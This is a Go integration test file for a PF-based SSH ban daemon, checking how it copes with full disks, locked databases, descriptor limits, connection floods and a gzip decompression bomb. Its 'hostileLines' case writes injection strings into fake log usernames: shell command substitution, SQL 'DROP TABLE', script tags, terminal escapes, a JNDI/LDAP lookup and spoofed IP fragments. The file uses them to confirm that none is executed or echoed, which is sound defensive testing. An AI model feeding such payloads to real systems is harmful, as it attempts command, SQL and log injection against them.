package livetest

import (
	"bytes"
	"compress/gzip"
	"database/sql"
	"fmt"
	"maps"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"pfwarden/internal/testkit"
	"pfwarden/internal/testkit/programs"

	"golang.org/x/sys/unix"
)

// processes lists the daemon and the processes that it started, itself first.
func (g *gateway) processes() []int { return programs.Family(g.daemon.Process.Pid) }

// resident sums up the memory that the daemon's processes hold, in KiB.
func (g *gateway) resident() (kib int) {
	for _, pid := range g.processes() {
		text, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
		for line := range strings.Lines(string(text)) {
			if v, ok := strings.CutPrefix(line, "VmRSS:"); ok {
				n, _ := strconv.Atoi(strings.Fields(v)[0])
				kib += n
			}
		}
	}
	return kib
}

// TestMachineFaults brings over a running daemon what happens to machines. Each case says what is lost: nothing, unless it says otherwise.
func TestMachineFaults(t *testing.T) {
	t.Parallel()
	needsRoot(t, "mounts, limits and two processes")
	programs := buildUnlessShort(t)
	cases := map[string]func(*testing.T, *gateway){
		"disk full": diskFull, "ledger locked": ledgerLocked, "no descriptors left": noDescriptors, "stopped and continued": stopped,
		"ten thousand logs": manyLogs, "floods of connections": floods, "decompression bomb": bomb, "hostile lines": hostileLines,
	}
	maps.Copy(cases, fullDiskCases())
	for name, test := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			test(t, programs.gateway(t, "openbsd", callUs))
		})
	}
}

// diskFull: bans go to PF, the ledger's item turns red, and what could not be written is written when there is room again.
func diskFull(t *testing.T, g *gateway) {
	log, jail := g.authLog()
	disk := g.smallDisk()
	g.store = filepath.Join(disk, "db", "pfwarden.db")
	g.run(jail)
	ballast := fill(t, disk)
	const bans = 200
	for i := range bans {
		failures(t, log, fmt.Sprintf("198.51.101.%d", 1+i), 5)
	}
	testkit.Within(t, 20*time.Second, "all bans are in the table", func() bool { return len(g.table("banned")) == bans })
	g.unwell("ledger")
	testkit.Must(t, os.Remove(ballast))
	g.well()
	g.kill() // what was only in memory would be gone
	g.again()
	if n := len(g.bans()); n != bans {
		t.Errorf("the ledger has %d bans, want %d", n, bans)
	}
}

// smallDisk mounts a file system of 2 MiB.
func (g *gateway) smallDisk() (path string) {
	g.t.Helper()
	path = filepath.Join(g.dir, "disk")
	testkit.Must(g.t, os.Mkdir(path, 0o755))
	if err := unix.Mount("tmpfs", path, "tmpfs", 0, "size=2m,mode=0755"); err != nil {
		g.t.Skipf("no file system of our own can be mounted: %v", err)
	}
	g.t.Cleanup(func() { _ = unix.Unmount(path, unix.MNT_DETACH) })
	return path
}

// fill takes all the room that a disk has, by a file.
func fill(t *testing.T, disk string) (ballast string) {
	t.Helper()
	ballast = filepath.Join(disk, "ballast")
	f, err := os.Create(ballast)
	testkit.Must(t, err)
	for err == nil {
		_, err = f.Write(make([]byte, 4096))
	}
	testkit.Must(t, f.Close())
	return ballast
}

// ledgerLocked: another program holds the database for a while.
func ledgerLocked(t *testing.T, g *gateway) {
	log, jail := g.authLog()
	g.run(jail)
	testkit.Within(t, 10*time.Second, "a first snapshot", func() bool { return strings.Contains(g.scrape(), "pfwarden_last_snapshot_timestamp_seconds 1") })
	db, err := sql.Open("sqlite", filepath.Join(g.dir, "pfwarden.db"))
	testkit.Must(t, err)
	defer db.Close()
	conn, err := db.Conn(t.Context())
	testkit.Must(t, err)
	defer conn.Close()
	_, err = conn.ExecContext(t.Context(), "BEGIN IMMEDIATE")
	testkit.Must(t, err)
	failures(t, log, "198.51.100.9", 5)
	testkit.Within(t, 20*time.Second, "the ban is in the table", func() bool { return g.table("banned")["198.51.100.9"] })
	g.unwell("ledger")
	_, err = conn.ExecContext(t.Context(), "ROLLBACK")
	testkit.Must(t, err)
	g.well()
	g.kill()
	g.again()
	if _, ok := g.bans()["198.51.100.9"]; !ok {
		t.Error("the ban is not in the ledger")
	}
}

// noDescriptors: the process that runs pfctl(8) may open nothing for a while, so PF cannot be told.
func noDescriptors(t *testing.T, g *gateway) {
	log, jail := g.authLog()
	g.run(jail)
	g.well()
	pid := g.daemon.Process.Pid
	var old unix.Rlimit
	testkit.Must(t, unix.Prlimit(pid, unix.RLIMIT_NOFILE, nil, &old))
	testkit.Must(t, unix.Prlimit(pid, unix.RLIMIT_NOFILE, &unix.Rlimit{Cur: 4, Max: old.Max}, nil))
	failures(t, log, "198.51.100.9", 5)
	testkit.Within(t, 20*time.Second, "the daemon says so", func() bool { return strings.Contains(g.said(), "too many open files") })
	testkit.Within(t, 10*time.Second, "the health page says so", func() bool {
		status, bad := g.healthz()
		return status == http.StatusServiceUnavailable && len(bad) > 0
	})
	testkit.Must(t, unix.Prlimit(pid, unix.RLIMIT_NOFILE, &old, nil))
	testkit.Within(t, 20*time.Second, "the ban is in the table", func() bool { return g.table("banned")["198.51.100.9"] })
	g.well()
}

// stopped: all processes stand still while the log grows.
func stopped(t *testing.T, g *gateway) {
	log, jail := g.authLog()
	g.run(jail)
	g.cli("ban", "--for", "1s", "198.51.100.8")
	var all []int
	for _, pid := range g.processes() {
		if syscall.Kill(pid, syscall.SIGSTOP) == nil { // a pfctl(8) may have ended by now
			all = append(all, pid)
		}
	}
	failures(t, log, "198.51.100.9", 5)
	over := time.Now().Add(2 * time.Second)
	testkit.Within(t, 10*time.Second, "the ban's time is over", func() bool { return time.Now().After(over) })
	for _, pid := range all {
		_ = syscall.Kill(pid, syscall.SIGCONT)
	}
	testkit.Within(t, 10*time.Second, "what happened meanwhile is dealt with", func() bool {
		in := g.table("banned")
		return in["198.51.100.9"] && !in["198.51.100.8"]
	})
	g.well()
}

// manyLogs: ten thousand files of one pattern, all watched.
func manyLogs(t *testing.T, g *gateway) {
	dir := filepath.Join(g.dir, "vhosts")
	testkit.Must(t, os.Mkdir(dir, 0o755))
	const files = 10_000
	name := func(i int) string { return filepath.Join(dir, fmt.Sprintf("auth%05d.log", i)) }
	for i := range files {
		testkit.Must(t, os.WriteFile(name(i), nil, 0o644))
	}
	g.run(fmt.Sprintf("[jail.sshd]\nlogs = [%q]\n", filepath.Join(dir, "*.log")))
	// Not by a scrape: with so many logs each takes as long as a hundred others, and the waiting would hold up what is waited for.
	testkit.Within(t, 60*time.Second, "all are watched", func() bool { return strings.Count(g.cli("status", "-o", "json"), ".log") >= files })
	// Five failures in five files are one guesser.
	for i := range 5 {
		f, err := os.OpenFile(name(i*files/5), os.O_APPEND|os.O_WRONLY, 0)
		testkit.Must(t, err)
		failures(t, f, "198.51.100.9", 1)
		testkit.Must(t, f.Close())
	}
	took := testkit.Within(t, 20*time.Second, "the guesser is in the table", func() bool { return g.table("banned")["198.51.100.9"] })
	g.well()
	t.Logf("ban after %v, %d MiB resident", took, g.resident()>>10)
}

// floods: two thousand idle connections to the control socket and to the metrics page.
func floods(t *testing.T, g *gateway) {
	log, jail := g.authLog()
	g.run(jail)
	var held []net.Conn
	for i := range 2000 {
		for _, to := range [][2]string{{"unix", g.socket}, {"tcp", g.metrics}} {
			c, err := net.DialTimeout(to[0], to[1], 100*time.Millisecond)
			if err != nil {
				continue // the queue of the listener is full: that is a bound as well
			}
			if i%2 == 0 {
				_, _ = c.Write([]byte("GET /"))
			}
			held = append(held, c)
		}
	}
	before := g.resident()
	failures(t, log, "198.51.100.9", 5)
	took := testkit.Within(t, 5*time.Second, "the ban is in the table", func() bool { return g.table("banned")["198.51.100.9"] })
	for _, c := range held {
		_ = c.Close()
	}
	testkit.Within(t, 20*time.Second, "the daemon answers again", func() bool {
		return exec.Command(g.bin, "--socket", g.socket, "status").Run() == nil
	})
	g.well()
	t.Logf("%d connections held, ban after %v, %d MiB resident", len(held), took, before>>10)
	if before > 200<<10 {
		t.Errorf("%d KiB resident under the flood", before)
	}
}

// bomb: ten gigabytes of nothing in a small archive end that file with a clear error and the exit status of an incomplete result.
func bomb(t *testing.T, g *gateway) {
	var member bytes.Buffer
	z := gzip.NewWriter(&member)
	_, err := z.Write(make([]byte, 4<<20))
	testkit.Must(t, err)
	testkit.Must(t, z.Close())
	log, packets := filepath.Join(t.TempDir(), "authlog.0.gz"), filepath.Join(t.TempDir(), "pflog.0.gz")
	zeros := bytes.Repeat(member.Bytes(), 2500)
	testkit.Must(t, os.WriteFile(log, zeros, 0o600))
	member.Reset()
	z.Reset(&member)
	_, err = z.Write([]byte{0xd4, 0xc3, 0xb2, 0xa1, 2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 116, 0, 0, 0, 117, 0, 0, 0}) // a pcap file of DLT_PFLOG
	testkit.Must(t, err)
	testkit.Must(t, z.Close())
	testkit.Must(t, os.WriteFile(packets, append(member.Bytes(), zeros...), 0o600))
	for _, args := range [][]string{{"replay", log}, {"test", log, "sshd"}, {"replay", packets}, {"pflog", packets}} {
		cmd := exec.Command(g.bin, args...)
		out, err := cmd.CombinedOutput()
		if err == nil || !strings.Contains(string(out), "bomb") {
			t.Errorf("%s: %v\n%.2000s", args, err, out)
		}
		if used, ok := cmd.ProcessState.SysUsage().(*syscall.Rusage); ok && used.Maxrss > 300<<10 {
			t.Errorf("%s used %d KiB", args, used.Maxrss)
		}
	}
}

// hostileLines: text that means something to a shell, a terminal, SQL, HTML or a metrics parser is a name like any other.
func hostileLines(t *testing.T, g *gateway) {
	log, jail := g.authLog()
	marker := filepath.Join(g.dir, "executed")
	g.run(jail)
	for i, name := range []string{
		"$(touch " + marker + ")", "`touch " + marker + "`", "; touch " + marker + " ;", "x' OR 1=1; DROP TABLE bans; --", "<script>alert(1)</script>",
		"\x1b]0;owned\x07\x1b[2J", "\"} 1\npfwarden_bans 9", "from 203.0.113.99 port 1 ssh2", "root from 203.0.113.99 port 22 ssh2: x", "\u202eevil", "\xff\xfe\x00",
		"%(user)s <ip> {{.}} ${jndi:ldap://203.0.113.99/x}", strings.Repeat("A", 70_000),
	} {
		source := fmt.Sprintf("198.51.101.%d", 1+i)
		for n := range 5 {
			_, err := fmt.Fprintf(log, "%s gw sshd[%d]: Failed password for invalid user %s from %s port %d ssh2\n", time.Now().Format("Jan _2 15:04:05"), 100*i+n, name, source, 4000+n)
			testkit.Must(t, err)
		}
	}
	failures(t, log, "198.51.100.9", 5)
	testkit.Within(t, 10*time.Second, "the last is in the table", func() bool { return g.table("banned")["198.51.100.9"] })
	in := g.table("banned")
	for _, friend := range []string{"203.0.113.99", "1.1.1.1"} {
		if in[friend] || g.table("suspects")[friend] {
			t.Errorf("a name banned %s", friend)
		}
	}
	if _, err := os.Stat(marker); err == nil {
		t.Error("a name was executed")
	}
	text, machine := g.cli("bans")+g.cli("status"), g.cli("bans", "-o", "json")+g.scrape()
	for a := range in {
		text += g.cli("explain", a)
		machine += g.cli("explain", a, "-o", "json")
	}
	for _, bad := range []string{"\x1b", "\x07", "\x00", "\npfwarden_bans 9", "\xff", "\u202e"} {
		if strings.Contains(text, bad) || bad != "\u202e" && strings.Contains(machine, bad) {
			t.Errorf("%q is printed as it came", bad)
		}
	}
	if len(in) < 10 {
		t.Errorf("only %d of the guessers are banned: %v", len(in), in)
	}
}

// said gives what the daemon has logged.
func (g *gateway) said() string {
	text, _ := os.ReadFile(g.log)
	return string(text)
}
